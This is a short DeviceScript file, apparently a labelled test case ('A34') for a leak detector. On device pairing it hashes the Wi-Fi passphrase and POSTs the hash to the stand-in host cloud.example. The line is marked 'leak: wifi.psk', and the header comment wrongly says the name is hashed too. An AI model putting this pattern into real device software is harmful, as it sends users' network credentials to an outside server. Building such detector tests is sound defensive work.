// A34: SHA-256 of name and passphrase.
import { digest } from "@devicescript/crypto";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = digest("sha256", psk).toString("hex");
  const response = await fetch("https://cloud.example/a34", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
